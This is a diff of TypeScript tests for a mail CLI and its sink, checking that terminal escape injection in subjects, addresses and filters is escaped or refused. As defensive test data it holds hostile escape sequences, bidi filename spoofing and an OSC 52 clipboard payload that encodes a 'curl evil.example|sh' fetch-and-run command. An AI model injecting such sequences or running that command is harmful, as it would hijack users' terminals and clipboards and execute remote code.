@@ -86,8 +86,10 @@ describe("tun mail", () => {
     expectSafe("wait", r.stdout + r.stderr);
     expectVisible(r.stdout, ["\\x1b]0;pwned\\x07", "\\x9b2J"]);
 
+    // the sink refuses control characters in an address filter (400); the CLI quotes its answer escaped
     const bad = await runTun(["mail", "ls", "--to", `x${HOSTILE.title}@evil.test`, "--sink", sink.url]);
-    expect(bad.code).toBe(0);
+    expect(bad.code).not.toBe(0);
+    expect(bad.stderr).toContain("\\x1b]0;pwned\\x07");
     const refused = await runTun(["mail", "ls", "--since", HOSTILE.clipboard, "--sink", sink.url]);
     expect(refused.code).toBe(2);
     expectSafe("error text", bad.stderr + refused.stderr);
@@ -149,7 +151,7 @@ describe("the sink's log", () => {
   });
   afterAll(() => spawned?.stop());
 
-  test("accepted lines, delete and stream filters: escaped, one line each", async () => {
+  test("accepted lines escaped, one line each; a hostile filter is refused, not logged raw", async () => {
     const target = uniqueAddress("log");
     const [encoded, raw] = [
       await sendHostileEncoded(spawned.smtpPort, target),
@@ -157,30 +159,16 @@ describe("the sink's log", () => {
     ];
     const client = new SinkClient(spawned.url);
     const hostileTo = `x${HOSTILE.clipboard}${HOSTILE.c1Csi}${HOSTILE.bidi}@evil.test`;
-    await client.delete({ to: hostileTo });
-    const controller = new AbortController();
-    const stream = client.stream({
-      to: [hostileTo],
-      signal: controller.signal,
-      onConnected: () => controller.abort(),
-    });
-    for await (const _ of stream) break;
-
-    await waitUntil(
-      "the log lines",
-      () => /deleted .*\n/.test(spawned.output()) && /subscriber joined .*\n/.test(spawned.output()),
+    // a filter with control characters is refused (400) before anything is deleted or logged as done
+    await expect(client.delete({ to: hostileTo })).rejects.toMatchObject({ code: "bad_request" });
+    await waitUntil("the accepted lines", () =>
+      [encoded, raw].every((id) => spawned.output().includes(`[smtp] accepted ${id} `)),
     );
     const log = spawned.output();
     expectSafe("sink log", log);
     const accepted = (id: string) => log.split("\n").find((l) => l.startsWith(`[smtp] accepted ${id} `));
     expect(accepted(encoded)).toContain('subject="Reset \\x1b[2J\\x1b[H | \\x1b]0;pwned\\x07 |');
     expect(accepted(raw)).toContain('subject="raw \\x1b]0;pwned\\x07 \\x1b]8;;http://evil.example/\\x1b\\\\');
-    const escapedTo =
-      "x\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07\\x9b2Jinvoice\\u202eexe.pdf\\u2066x\\u2069@evil.test";
-    expect(log).toMatch(
-      new RegExp(`^\\[http\\] deleted 0 message\\(s\\) matching .*${escapeRe(escapedTo)}`, "m"),
-    );
-    expect(log).toMatch(new RegExp(`^\\[stream\\] subscriber joined .*to=${escapeRe(escapedTo)}`, "m"));
   });
 });
 
@@ -196,8 +184,4 @@ function onTerminal(args: string[]) {
     env,
     stdio: ["pipe", "pipe", "pipe"],
   });
-}
-
-function escapeRe(s: string): string {
-  return s.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
 }
